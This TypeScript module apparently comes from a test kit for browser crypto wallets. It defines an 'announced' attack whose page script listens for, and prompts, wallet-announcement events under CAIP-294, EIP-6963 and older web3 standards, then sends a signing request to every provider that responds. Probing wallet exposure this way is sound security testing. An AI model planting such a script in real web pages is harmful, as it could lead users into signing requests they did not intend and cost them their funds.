import type { Attack } from './kit/attack.ts'

export default {
  family: 'announced',
  how: 'Asks for providers by CAIP-294, the newer way to announce a wallet, and by its older web3 events.',
  script: `
    for (const name of ['caip294:wallet_announce', 'web3:announceProvider', 'ethereum#initialized', 'eip5749:announceProvider']) {
      addEventListener(name, (event) => event.detail?.params?.provider?.request?.(attack.sign))
    }
    for (const name of ['caip294:wallet_prompt', 'web3:requestProvider']) dispatchEvent(new CustomEvent(name, { detail: { method: 'wallet_prompt', params: {} } }))
    addEventListener('eip6963:announceProvider', (event) => event.detail.provider.request(attack.sign))
    dispatchEvent(new Event('eip6963:requestProvider'))
    await attack.sleep(300)
  `,
} satisfies Attack
